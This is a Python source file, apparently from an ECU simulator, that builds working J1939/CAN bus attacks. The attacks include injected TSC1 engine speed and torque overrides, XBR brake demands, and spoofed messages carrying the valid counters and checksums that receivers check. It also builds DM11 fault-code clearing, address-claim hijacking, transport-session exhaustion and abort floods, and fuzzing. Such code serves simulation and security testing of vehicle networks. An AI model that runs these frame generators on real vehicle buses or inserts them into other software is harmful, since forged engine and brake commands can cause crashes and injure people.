"""Each attack kind as the frames it sends at the n-th tick of its window.

The frames are built from the project's own J1939 layer (requests, transport, DM messages) and
the DBC (TSC1, XBR and a spoofed message, with the counter and checksum J1939-71 asks for), so
an attack is exactly as valid as the traffic it imitates: a receiver that checks counters and
checksums still takes it. Everything random comes from the generator handed in, so the same
seed gives the same frames.
"""

from __future__ import annotations

import random
from collections.abc import Callable, Sequence

import can
from cantools.database.can import Database, Message

from ecu_sim.attack import replay, session
from ecu_sim.attack.spec import Attack
from ecu_sim.attack.tick import Frames, every, frame, per_tick, repeat
from ecu_sim.codec.command import CommandCodec
from ecu_sim.codec.role import RoleCodec
from ecu_sim.codec.spn import SignalLayout, carriers, messages_with, spn_signals
from ecu_sim.errors import ConfigError
from ecu_sim.j1939 import dm
from ecu_sim.j1939.frames import ADDRESS_CLAIMED_PGN, Pdu
from ecu_sim.j1939.ids import GLOBAL_ADDRESS, destination_of, make_id, source_address_of
from ecu_sim.j1939.request import request, single_frame
from ecu_sim.j1939.transport import BAM, CTS, abort, cm

# TSC1 and XBR SPNs (J1939-71)
_TSC1_MODE, _TSC1_PRIORITY, _TSC1_SPEED, _TSC1_TORQUE = 695, 897, 898, 518
_XBR_DEMAND, _XBR_PRIORITY, _XBR_MODE = 2920, 2915, 2916
_NO_PRIORITY = 0x3FFFFFF
_TSC1_MODES = {"speed": 1, "torque": 2, "limit": 3}
_XBR_MODES = {"add": 1, "max": 2}


def build(attack: Attack, database: Database, period_s: float, rng: random.Random) -> Frames:
    """The frames of ``attack``; ConfigError when the DBC lacks what the attack imitates."""
    return _BUILDERS[attack.kind](attack, database, period_s, rng)


def _tsc1(attack: Attack, database: Database, period_s: float, rng: random.Random) -> Frames:
    target = attack.address("target")
    found = [m for m in messages_with(database, _TSC1_TORQUE)
             if m.is_extended_frame and destination_of(m.frame_id) == target]
    if not found:
        known = ", ".join(f"0x{destination_of(m.frame_id):02x}"
                          for m in messages_with(database, _TSC1_TORQUE))
        raise ConfigError(f"--attack {attack.text!r}: the DBC has no TSC1 to 0x{target:02x}; "
                          f"it has TSC1 to {known or 'nobody'}")
    speed, torque, mode = attack.get("speed"), attack.get("torque"), attack.get("mode")
    chosen = str(mode) if mode is not None else "speed" if speed is not None else "torque"
    if chosen not in _TSC1_MODES:
        raise ConfigError(f"--attack {attack.text!r}: mode={chosen} is not one of {', '.join(_TSC1_MODES)}")
    if speed is None and torque is None:
        raise ConfigError(f"--attack {attack.text!r}: tsc1 needs speed=RPM or torque=PCT")
    codec = CommandCodec(found[0], attack.address("source"))
    fixed = {_TSC1_MODE: float(_TSC1_MODES[chosen]), _TSC1_PRIORITY: attack.number("priority")}
    demands = {spn: float(v) for spn, v in ((_TSC1_SPEED, speed), (_TSC1_TORQUE, torque))
               if isinstance(v, float)}
    return _command(codec, fixed, demands, per_tick(attack.number("rate"), period_s))


def _xbr(attack: Attack, database: Database, period_s: float, rng: random.Random) -> Frames:
    found = [m for m in messages_with(database, _XBR_DEMAND) if m.is_extended_frame]
    if not found:
        raise ConfigError(f"--attack {attack.text!r}: the DBC has no XBR (SPN {_XBR_DEMAND})")
    mode = str(attack.get("mode"))
    if mode not in _XBR_MODES:
        raise ConfigError(f"--attack {attack.text!r}: mode={mode} is not one of {', '.join(_XBR_MODES)}")
    codec = CommandCodec(found[0], attack.address("source"), destination=attack.address("target"))
    fixed = {_XBR_MODE: float(_XBR_MODES[mode]), _XBR_PRIORITY: attack.number("priority")}
    return _command(codec, fixed, {_XBR_DEMAND: attack.number("accel")},
                    per_tick(attack.number("rate"), period_s))


def _command(codec: CommandCodec, fixed: dict[int, float], demands: dict[int, float],
             count: Callable[[int], int]) -> Frames:
    """A command stream whose counter runs on from frame to frame, as a genuine sender's does."""
    sent = [0]

    def make() -> can.Message:
        data = codec.encode(fixed, demands, sent[0])
        sent[0] += 1
        return can.Message(arbitration_id=codec.frame_id, data=data, is_extended_id=True)
    return repeat(make, count)


def _spoof(attack: Attack, database: Database, period_s: float, rng: random.Random) -> Frames:
    name = str(attack.get("message"))
    message = _message(database, name, attack)
    spn = attack.address("spn")
    signals = spn_signals(message, {spn})
    if not signals:
        raise ConfigError(f"--attack {attack.text!r}: {message.name} carries no SPN {spn}")
    sender = source_address_of(message.frame_id) if attack.get("source") is None else attack.address("source")
    data = RoleCodec(message, signals[0][1], is_j1939=False).encode(attack.number("value"))
    ident = (message.frame_id & ~0xFF) | sender
    return repeat(lambda: can.Message(arbitration_id=ident, data=data, is_extended_id=True),
                   per_tick(attack.number("rate"), period_s))


def _message(database: Database, name: str, attack: Attack) -> Message:
    for message in database.messages:
        if message.name.lower() == name.lower():
            return message
    names = ", ".join(sorted(m.name for m in database.messages))
    raise ConfigError(f"--attack {attack.text!r}: the DBC has no message {name!r}; it has {names}")


def _request(attack: Attack, database: Database, period_s: float, rng: random.Random) -> Frames:
    pdu, source = request(attack.address("pgn"), attack.address("target")), attack.address("source")
    return repeat(lambda: frame(pdu, source), per_tick(attack.number("rate"), period_s))


def _exhaust(attack: Attack, database: Database, period_s: float, rng: random.Random) -> Frames:
    """MUK's connection exhaustion: each source asks, then keeps its session open with CTS."""
    pgn, target = attack.address("pgn"), attack.address("target")
    sources = attack.get("sources")
    assert isinstance(sources, tuple)
    due = every(attack.number("every"), period_s)
    hold = cm({"ControlByte": CTS, "CTS_Packets": 1, "CTS_NextSequence": 1, "CTS_PGN": pgn}, target)

    def frames(n: int, heard: Sequence[can.Message]) -> list[can.Message]:
        if n == 0:
            return [frame(request(pgn, target), s) for s in sources]
        return [frame(hold, s) for s in sources] if due(n) else []
    return frames


def _once_or_every(pdu: Pdu, source: int, attack: Attack, period_s: float) -> Frames:
    due = every(attack.number("every"), period_s)
    return lambda n, heard: [frame(pdu, source)] if due(n) else []


def _claim(attack: Attack, database: Database, period_s: float, rng: random.Random) -> Frames:
    name = int(attack.number("name")).to_bytes(8, "little")
    pdu = Pdu(ADDRESS_CLAIMED_PGN, name, GLOBAL_ADDRESS, 6)
    return _once_or_every(pdu, attack.address("target"), attack, period_s)


def _dm11(attack: Attack, database: Database, period_s: float, rng: random.Random) -> Frames:
    # DM11, the clearing of active DTCs, is asked for by a Request of its PGN (J1939-73)
    pdu = request(dm.DM11_PGN, attack.address("target"))
    return _once_or_every(pdu, attack.address("source"), attack, period_s)


def _dm1(attack: Attack, database: Database, period_s: float, rng: random.Random) -> Frames:
    # the DM1 a node with this one DTC active sends, from the node's own DTC table: the same lamp,
    # the same packing, one occurrence
    table = dm.DtcTable()
    table.update({dm.Dtc(attack.address("spn"), attack.address("fmi"))})
    try:
        payload = table.dm1()
    except ValueError as exc:
        raise ConfigError(f"--attack {attack.text!r}: {exc}") from None
    pdu = single_frame(dm.DM1_PGN, payload, GLOBAL_ADDRESS)
    source = attack.address("source")
    return repeat(lambda: frame(pdu, source), per_tick(attack.number("rate"), period_s))


def _abort(attack: Attack, database: Database, period_s: float, rng: random.Random) -> Frames:
    pdu = abort(attack.address("pgn"), attack.address("reason"), attack.address("target"))
    source = attack.address("source")
    return repeat(lambda: frame(pdu, source), per_tick(attack.number("rate"), period_s))


def _bam(attack: Attack, database: Database, period_s: float, rng: random.Random) -> Frames:
    size = attack.address("size")
    if not 9 <= size <= 1785:
        raise ConfigError(f"--attack {attack.text!r}: size={size} is not a transport size 9..1785")
    pdu = cm({"ControlByte": BAM, "BAM_TotalSize": size, "BAM_TotalPackets": -(-size // 7),
              "BAM_PGN": attack.address("pgn")}, GLOBAL_ADDRESS)
    source = attack.address("source")
    return repeat(lambda: frame(pdu, source), per_tick(attack.number("rate"), period_s))


def _fuzz(attack: Attack, database: Database, period_s: float, rng: random.Random) -> Frames:
    if attack.get("spn") is not None:
        if attack.get("pgn") is not None:
            raise ConfigError(f"--attack {attack.text!r}: fuzz takes pgn= or spn=, not both")
        return _fuzz_spn(attack, database, period_s, rng)
    pgn = None if attack.get("pgn") is None else attack.address("pgn")
    source = None if attack.get("source") is None else attack.address("source")

    def make() -> can.Message:
        data = rng.randbytes(8)
        if pgn is None:
            ident = rng.getrandbits(29)
            if source is not None:
                ident = (ident & ~0xFF) | source
        else:
            sender = rng.randrange(0xFE) if source is None else source
            ident = make_id(pgn, sender, rng.randrange(0x100), 6)
        return can.Message(arbitration_id=ident, data=data, is_extended_id=True)
    return repeat(make, per_tick(attack.number("rate"), period_s))


def _fuzz_spn(attack: Attack, database: Database, period_s: float, rng: random.Random) -> Frames:
    """Random raw values of one SPN's signal in a message that carries it, chosen at random; the
    other bytes are the genuine sender's last ones (all "not available" before it is heard), so
    only the parameter under test is wrong."""
    spn = attack.address("spn")
    found = [(m, SignalLayout.of(s)) for m, s in carriers(database, spn) if m.is_extended_frame]
    if not found:
        raise ConfigError(f"--attack {attack.text!r}: the DBC has no message with SPN {spn}")
    source = None if attack.get("source") is None else attack.address("source")
    count = per_tick(attack.number("rate"), period_s)
    last: dict[int, bytes] = {}  # the genuine frames heard, by identifier without the priority

    def frames(n: int, heard: Sequence[can.Message]) -> list[can.Message]:
        for msg in heard:
            last[msg.arbitration_id & _NO_PRIORITY] = bytes(msg.data)
        out = []
        for _ in range(count(n)):
            message, layout = found[rng.randrange(len(found))]
            base = last.get(message.frame_id & _NO_PRIORITY, b"").ljust(message.length, b"\xff")
            data = layout.with_raw(int.from_bytes(base, "little"), len(base), rng.getrandbits(layout.length))
            ident = message.frame_id if source is None else (message.frame_id & ~0xFF) | source
            out.append(can.Message(arbitration_id=ident, data=data.to_bytes(len(base), "little"),
                                   is_extended_id=True))
        return out
    return frames


_BUILDERS: dict[str, Callable[[Attack, Database, float, random.Random], Frames]] = {
    "tsc1": _tsc1, "xbr": _xbr, "spoof": _spoof, "request": _request, "exhaust": _exhaust,
    "claim": _claim, "dm11": _dm11, "dm1": _dm1, "abort": _abort, "bam": _bam, "fuzz": _fuzz,
    "replay": lambda attack, database, period_s, rng: replay.replay(attack, period_s),
    "rts": lambda attack, database, period_s, rng: session.malicious_rts(attack, period_s),
    "rtsflood": lambda attack, database, period_s, rng: session.rts_flood(attack, period_s),
    "cts": lambda attack, database, period_s, rng: session.malicious_cts(attack, period_s),
    "interrupt": lambda attack, database, period_s, rng: session.interrupt(attack, period_s),
    "dt": lambda attack, database, period_s, rng: session.spoofed_data(attack, period_s),
}
